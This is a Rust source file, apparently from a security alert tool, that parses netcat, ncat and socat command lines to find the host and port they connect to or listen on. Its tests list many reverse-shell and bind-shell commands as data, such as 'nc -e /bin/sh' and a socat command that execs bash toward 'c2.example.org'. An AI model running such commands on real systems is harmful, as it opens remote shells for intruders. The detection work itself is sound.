//! Where a netcat or socat was told to connect or listen, read from its arguments as its flavors understand them.

use crate::model::Alert;

/// What the arguments say.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Netcat {
    pub listens: bool,
    /// Address or name; for one that listens, what it listens on.
    pub host: Option<String>,
    /// A number, or several and ranges as written, joined by commas.
    pub port: Option<String>,
}

/// Long options of nmap's ncat whose value may be the next word.
const LONG: [&str; 26] = [
    "exec",
    "sh-exec",
    "lua-exec",
    "source",
    "source-port",
    "wait",
    "idle-timeout",
    "proxy",
    "proxy-type",
    "proxy-auth",
    "proxy-dns",
    "delay",
    "output",
    "hex-dump",
    "max-conns",
    "allow",
    "allowfile",
    "deny",
    "denyfile",
    "ssl-cert",
    "ssl-key",
    "ssl-trustfile",
    "ssl-ciphers",
    "ssl-servername",
    "ssl-alpn",
    "vsock",
];

/// Reads the alert's command, when it is one of these programs.
pub(super) fn read(alert: &Alert) -> Option<Netcat> {
    let name = alert.fields.text("proc.name")?;
    let command = alert.fields.text("proc.cmdline")?;
    let mut words = command.split_ascii_whitespace().skip(1);
    let mut base = name.rsplit('/').next()?;
    if base == "busybox" {
        base = words.next()?;
    }
    let words: Vec<&str> = words.collect();
    match base {
        "socat" => Some(socat(&words)),
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => {
            Some(netcat(&words, base == "ncat"))
        }
        _ => None,
    }
}

fn netcat(words: &[&str], is_ncat: bool) -> Netcat {
    // Flavors agree on nearly all: `-d` is a delay for ncat and no value for the others.
    let takes = |letter: char| {
        "cegGiIMmoOpPqsTVwWxX".contains(letter) || (is_ncat && letter == 'd') || letter == 'f'
    };
    let mut netcat = Netcat::default();
    let mut plain: Vec<&str> = Vec::new();
    let mut words = words.iter();
    while let Some(word) = words.next() {
        if *word == "--" {
            plain.extend(words.by_ref());
        } else if let Some(long) = word.strip_prefix("--") {
            netcat.listens |= long == "listen";
            if LONG.contains(&long) {
                let value = words.next();
                if long == "source-port" {
                    netcat.port = value.map(|value| (*value).to_owned());
                }
            }
        } else if let Some(short) = word.strip_prefix('-').filter(|short| !short.is_empty()) {
            let mut letters = short.chars();
            while let Some(letter) = letters.next() {
                netcat.listens |= letter == 'l';
                if !takes(letter) {
                    continue;
                }
                let attached = letters.as_str();
                // What follows the program is its own once the address is known: busybox takes all that is left.
                if letter == 'e' && plain.len() >= 2 {
                    words.by_ref().for_each(drop);
                    break;
                }
                let value =
                    if attached.is_empty() { words.next().copied() } else { Some(attached) };
                if letter == 'p' {
                    netcat.port = value.map(str::to_owned);
                }
                break;
            }
        } else {
            plain.push(word);
        }
    }
    match (netcat.listens, plain.as_slice()) {
        // The own port stands alone: `nc -l 4444`.
        (true, [port]) if is_port(port) && netcat.port.is_none() => {
            netcat.port = Some((*port).to_owned());
        }
        (true, [host, port, ..]) if netcat.port.is_none() => {
            netcat.host = Some((*host).to_owned());
            netcat.port = Some((*port).to_owned());
        }
        (true, [host, ..]) => netcat.host = Some((*host).to_owned()),
        (true, []) => {}
        (false, plain) => {
            // A port before was the own one.
            netcat.host = plain.first().map(|host| (*host).to_owned());
            let ports = plain.get(1..).unwrap_or_default();
            netcat.port = (!ports.is_empty()).then(|| ports.join(","));
        }
    }
    netcat
}

fn is_port(word: &str) -> bool {
    word.parse::<u16>().is_ok()
}

/// The first address of socat's two that is a network's.
fn socat(words: &[&str]) -> Netcat {
    for word in words.iter().filter(|word| !word.starts_with('-')) {
        let Some((kind, rest)) = word.split_once(':') else { continue };
        let kind = kind.to_ascii_uppercase();
        let protocol = kind.split('-').next().unwrap_or_default();
        let protocol = protocol.trim_end_matches(['4', '6']);
        if !["TCP", "UDP", "OPENSSL", "SSL", "SCTP", "DTLS", "PROXY", "SOCKS"].contains(&protocol) {
            continue;
        }
        let address = rest.split(',').next().unwrap_or(rest);
        let listens = ["LISTEN", "-L", "RECV"].iter().any(|part| kind.contains(part));
        if listens {
            return Netcat { listens, host: None, port: Some(address.to_owned()) };
        }
        let (host, port) = address.rsplit_once(':').unwrap_or((address, ""));
        let host = host.trim_start_matches('[').trim_end_matches(']');
        return Netcat {
            listens,
            host: (!host.is_empty()).then(|| host.to_owned()),
            port: (!port.is_empty()).then(|| port.to_owned()),
        };
    }
    Netcat::default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Value;

    /// `expected`: `<` or `>`, then what is known of host and port.
    #[track_caller]
    fn check(command: &str, expected: &str) {
        let program = command.split(' ').next().unwrap();
        let mut alert = Alert::default();
        let name = program.rsplit('/').next().unwrap();
        let _ = alert.fields.set("proc.name", Value::String(name.into()));
        let _ = alert.fields.set("proc.cmdline", Value::String(command.into()));
        let shown = read(&alert).map_or_else(
            || "none".to_owned(),
            |netcat| {
                let sign = if netcat.listens { '<' } else { '>' };
                let host = netcat.host.unwrap_or_else(|| "-".to_owned());
                format!("{sign} {host} {}", netcat.port.unwrap_or_else(|| "-".to_owned()))
            },
        );
        assert_eq!(shown, expected, "{command}");
    }

    #[test]
    fn a_connection_goes_to_the_host_and_port_that_are_no_options_values() {
        check("nc 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("nc -e /bin/sh example.com 22", "> example.com 22");
        check("nc example.com 22 -e /bin/sh", "> example.com 22");
        check("nc 10.1.2.3 4444 -e sh -c id", "> 10.1.2.3 4444");
        check("nc.traditional -c /bin/sh 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("nc -nv -w 3 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("nc -nvw3 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("nc.openbsd -X 5 -x 127.0.0.1:9050 203.0.113.9 443", "> 203.0.113.9 443");
        check("nc -p 53 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("nc -e/bin/sh 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("nc -zv 10.1.2.3 20-25 80", "> 10.1.2.3 20-25,80");
        check("nc -6 fe80::1 80", "> fe80::1 80");
        check("nc -U /run/x.sock", "> /run/x.sock -");
        check("ncat --ssl --exec /bin/sh 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("ncat --proxy 10.9.9.9:3128 --proxy-type http 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("ncat -d 2 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("nc -d 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("busybox nc 10.1.2.3 4444 -e /bin/sh", "> 10.1.2.3 4444");
        check("/usr/bin/nc -- 10.1.2.3 4444", "> 10.1.2.3 4444");
        check("nc", "> - -");
    }

    #[test]
    fn one_that_listens_is_called_and_calls_nobody() {
        check("nc -l 4444", "< - 4444");
        check("nc -l -p 4444", "< - 4444");
        check("nc -lvp 4444", "< - 4444");
        check("nc -lvnp 4444 -e /bin/sh", "< - 4444");
        check("nc -lp4444", "< - 4444");
        check("nc -nlvp 4444", "< - 4444");
        check("nc -l 0.0.0.0 4444", "< 0.0.0.0 4444");
        check("nc -lk 127.0.0.1 4444", "< 127.0.0.1 4444");
        check("ncat --listen --source-port 4444 -k", "< - 4444");
        check("ncat -lk 4444 --allow 10.0.0.0/8", "< - 4444");
        check("busybox nc -l -p 4444 -e /bin/sh", "< - 4444");
        check("nc -p 4444 -l", "< - 4444");
    }

    #[test]
    fn socat_names_its_ends() {
        check("socat TCP:203.0.113.9:443 EXEC:/bin/sh", "> 203.0.113.9 443");
        check("socat exec:'bash -li',pty tcp:c2.example.org:9001", "> c2.example.org 9001");
        check("socat -d -d TCP4-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh", "< - 4444");
        check("socat OPENSSL:[2001:db8::5]:443,verify=0 STDIO", "> 2001:db8::5 443");
        check("socat UNIX-CONNECT:/run/docker.sock STDIO", "> - -");
    }

    #[test]
    fn others_are_not_read() {
        check("ncurses 10.1.2.3 4444", "none");
        check("busybox ls nc", "none");
        check("sh -c nc 10.1.2.3 4444", "none");
    }
}
